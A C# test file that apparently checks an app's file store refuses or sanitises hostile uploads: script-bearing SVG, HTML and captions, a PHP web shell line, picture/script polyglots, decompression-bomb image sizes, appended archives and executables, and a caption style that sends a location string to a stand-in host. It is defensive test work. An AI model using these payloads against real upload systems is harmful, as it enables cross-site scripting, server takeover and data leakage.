using System.Buffers.Binary;
using System.Diagnostics;
using System.Text;
using MerchantWorkbench.Platform.Files;
using MerchantWorkbench.Platform.Kernel;
using MerchantWorkbench.Products.LifeAccount;
using MerchantWorkbench.Tests.Products.LifeAccount.Actions;
using MerchantWorkbench.Tests.World;

namespace MerchantWorkbench.Tests.Platform.Files;

/// <summary>
/// Files that somebody made to do harm: each is refused, or kept without what it was made for; quickly, and without taking the machine's memory.
/// </summary>
public sealed class HostileFilesTests() : LifeTest(Engine.Sqlite)
{
    private const string Script = "<script>alert(1)</script>", Place = "GPS 31.2304N 121.4737E";
    private static readonly string[] Marks = [Script, Place, "<?php", "PK\u0003\u0004", "%PDF-", "MZ\u0090", "=alert(1)"];

    [Fact]
    public async Task Each_hostile_file_is_refused_or_kept_without_what_it_was_made_for()
    {
        long before = GC.GetTotalMemory(forceFullCollection: true), most = before, slowest = 0;
        List<string> passed = [];
        int refused = 0, cleaned = 0;
        foreach ((string name, byte[] bytes) in Files())
        {
            var watch = Stopwatch.StartNew();
            Outcome<StoredFile> outcome = await SentAsync(name, bytes);
            slowest = Math.Max(slowest, watch.ElapsedMilliseconds);
            most = Math.Max(most, GC.GetTotalMemory(forceFullCollection: false));
            if (outcome.Value is not { } file)
            {
                refused++;
                continue;
            }
            cleaned++;
            string kept = Encoding.Latin1.GetString(await File.ReadAllBytesAsync(World.Get<FileStore>().Place(file.Path)));
            passed.AddRange(Marks.Where(mark => kept.Contains(mark, StringComparison.Ordinal)).Select(mark => $"{name} keeps {mark}"));
        }

        Figure.Report("hostile.files", refused + cleaned, "files", floor: 40);
        Figure.Report("hostile.passed", passed.Count, "files", floor: 0, goal: 0);
        Figure.Report("hostile.slowest", slowest, "ms", floor: 3_000);
        Figure.Report("hostile.memory", (most - before) / 1024.0 / 1024, "MB", floor: 200);
        Assert.Empty(passed);
        Assert.True(refused >= 25 && cleaned >= 12, $"{refused} refused, {cleaned} kept clean");
        Assert.InRange(most - before, 0, 200 * 1024 * 1024);
    }

    private async Task<Outcome<StoredFile>> SentAsync(string name, byte[] bytes)
    {
        FileStore files = World.Get<FileStore>();
        if (name.StartsWith("words", StringComparison.Ordinal)) return await files.StoreCaptionsAsync(Noodles.Key, LifePermissions.Write, bytes);
        if (!name.StartsWith("film", StringComparison.Ordinal)) return await files.StoreAsync(Noodles.Key, LifePermissions.Write, bytes);
        VideoIntake intake = World.Get<VideoIntake>();
        if (!(await intake.BeginAsync(Noodles.Key, LifePermissions.Write, bytes.Length)).Is(out VideoIntake.Progress? begun, out Refusal? no)) return no;
        Outcome<VideoIntake.Progress> end = await intake.TakeAsync(Noodles.Key, LifePermissions.Write, Id(begun.Id), 0, new MemoryStream(bytes));
        return end.Then(progress => progress.File!);
    }

    private static IEnumerable<(string Name, byte[] Bytes)> Files() => Strangers().Concat(Pngs()).Concat(Jpegs()).Concat(Films()).Concat(Captions());

    private static IEnumerable<(string, byte[])> Strangers()
    {
        yield return ("empty", []);
        yield return ("one byte", [0xFF]);
        yield return ("drawing with a script", Ascii($"<svg xmlns='http://www.w3.org/2000/svg'>{Script}</svg>"));
        yield return ("page", Ascii("<!doctype html>" + Script));
        yield return ("page in UTF-16", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Script)]);
        yield return ("program of a server", Ascii("<?php system($_GET['c']); ?>"));
        yield return ("picture that is a script", Ascii("GIF89a=alert(1)"));
        yield return ("picture with an archive behind", [.. Ascii("GIF89a"), .. new byte[20], .. "PK\u0003\u0004"u8]);
        yield return ("document", Ascii("%PDF-1.7\n" + Script));
        yield return ("archive", [.. "PK\u0003\u0004"u8, .. new byte[100]]);
        yield return ("program", [.. Ascii("MZ\u0090"), .. new byte[100]]);
        yield return ("bitmap of gigabytes", [.. Ascii("BM"), .. new byte[16], 0xFF, 0xFF, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, 0x7F, .. new byte[30]]);
        yield return ("picture of another kind", Ascii("RIFF\0\0\0\0WEBPVP8 " + Script));
        yield return ("picture of a phone's own kind", [0, 0, 0, 24, .. Ascii("ftypheic"), .. new byte[60]]);
        yield return ("too large", new byte[FileStore.MostBytes + 1]);
    }

    private static IEnumerable<(string, byte[])> Pngs()
    {
        byte[] plain = Dot.Png;
        yield return ("PNG of gigabytes", Sized(100_000, 100_000));
        yield return ("PNG wider than any machine", Sized(int.MaxValue, int.MaxValue));
        yield return ("PNG of no width", Sized(0, 5));
        yield return ("PNG of a negative width", Sized(-1, 5));
        yield return ("PNG cut in its head", plain[..20]);
        yield return ("PNG whose head is none", [.. plain[..12], .. "evil"u8, .. plain[16..]]);
        yield return ("PNG whose part has no end", [.. plain[..33], 0x7F, 0xFF, 0xFF, 0xFF, .. Ascii("IDAT" + Script)]);
        yield return ("PNG with a page behind", [.. plain, .. Ascii(Script)]);
        yield return ("PNG with an archive behind", [.. plain, .. "PK\u0003\u0004"u8, .. new byte[50]]);
        foreach (string part in new[] { "tEXt", "zTXt", "iTXt", "eXIf", "eVil", "vpAg", "IVIL" })
            yield return ($"PNG with a part {part}", [.. plain[..33], .. Chunk(part, Script + Place), .. plain[33..]]);
    }

    private static IEnumerable<(string, byte[])> Jpegs()
    {
        byte[] frame = [0xFF, 0xC0, 0, 11, 8, 0, 2, 0, 3, 1, 1, 0x11, 0], scan = [0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0, 7, 0xFF, 0, 9];
        byte[] Jpeg(params byte[][] more) => [0xFF, 0xD8, .. more.SelectMany(one => one), .. frame, .. scan, 0xFF, 0xD9];
        yield return ("JPEG with a page behind", [.. Jpeg(), .. Ascii(Script)]);
        yield return ("JPEG with a program behind", [.. Jpeg(), .. Ascii("<?php phpinfo(); ?>")]);
        foreach (byte marker in new byte[] { 0xE0, 0xE1, 0xE2, 0xE3, 0xE4, 0xE8, 0xEB, 0xEC, 0xED, 0xEE, 0xEF, 0xF0, 0xFD, 0xFE })
            yield return ($"JPEG with a part {marker:X}", Jpeg(Segment(marker, "JFIF\0" + Script + Place)));
        // Its length reads as the beginning of a comment: the same bytes are a picture and a script.
        yield return ("JPEG that is a script", Jpeg([0xFF, 0xE0, 0x2F, 0x2A, .. Ascii("*/=alert(1)/*"), .. new byte[0x2F2A - 15]]));
        yield return ("JPEG of gigabytes", [0xFF, 0xD8, 0xFF, 0xC0, 0, 11, 8, 0xFF, 0xFF, 0xFF, 0xFF, 1, 1, 0x11, 0, .. scan]);
        yield return ("JPEG without a frame", [0xFF, 0xD8, .. scan, 0xFF, 0xD9]);
        yield return ("JPEG whose part has no length", [0xFF, 0xD8, 0xFF, 0xE0, 0, 0, .. Ascii(Script)]);
        yield return ("JPEG cut in its frame", [0xFF, 0xD8, .. frame[..8]]);
        yield return ("JPEG of marks alone", [0xFF, 0xD8, .. Enumerable.Repeat((byte)0xFF, 100_000)]);
    }

    private static IEnumerable<(string, byte[])> Films()
    {
        byte[] film = TinyFilm.Make();
        yield return ("film cut in the middle", film[..(film.Length / 2)]);
        yield return ("film with a page behind", [.. film, .. Ascii(Script)]);
        yield return ("film with a part of its own", [.. film, .. TinyFilm.Box("uuid", Ascii(Script))]);
        yield return ("film with words of its own", [.. film, .. TinyFilm.Box("free", Ascii(Script))]);
        yield return ("film no phone plays", TinyFilm.Make(codec: "hvc1"));
        yield return ("film of six minutes", TinyFilm.Make(seconds: 6, hold: 61));
        yield return ("film of sound alone", TinyFilm.Make(kind: "soun"));
        yield return ("film whose first box is endless", [0x7F, 0xFF, 0xFF, 0xFF, .. film[4..]]);
        yield return ("film of another kind", Ascii("RIFF\0\0\0\0AVI LIST" + Script));
        yield return ("film that is a page", Ascii(Script));
        yield return ("film of nothing but boxes", [.. Enumerable.Range(0, 20_000).SelectMany(_ => TinyFilm.Box("free"))]);
    }

    private static IEnumerable<(string, byte[])> Captions()
    {
        const string time = "\n\n00:00.000 --> 00:02.000\n";
        yield return ("words with a script", Encoding.UTF8.GetBytes("WEBVTT" + time + Script));
        yield return ("words with a style",
            Encoding.UTF8.GetBytes("WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.example/?" + Place + ") }" + time + "汤"));
        yield return ("words that are a page", Encoding.UTF8.GetBytes(Script));
        yield return ("words without end", Encoding.UTF8.GetBytes("WEBVTT" + string.Concat(Enumerable.Repeat(time + new string('长', 1_000), 1_000))));
    }

    private static byte[] Sized(int width, int height)
    {
        byte[] bytes = Dot.Png;
        BinaryPrimitives.WriteInt32BigEndian(bytes.AsSpan(16), width);
        BinaryPrimitives.WriteInt32BigEndian(bytes.AsSpan(20), height);
        return bytes;
    }

    private static byte[] Chunk(string name, string text)
    {
        byte[] length = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(length, text.Length);
        return [.. length, .. Ascii(name + text), 0, 0, 0, 0];
    }

    private static byte[] Segment(byte marker, string text) => [0xFF, marker, 0, (byte)(text.Length + 2), .. Ascii(text)];

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);
}
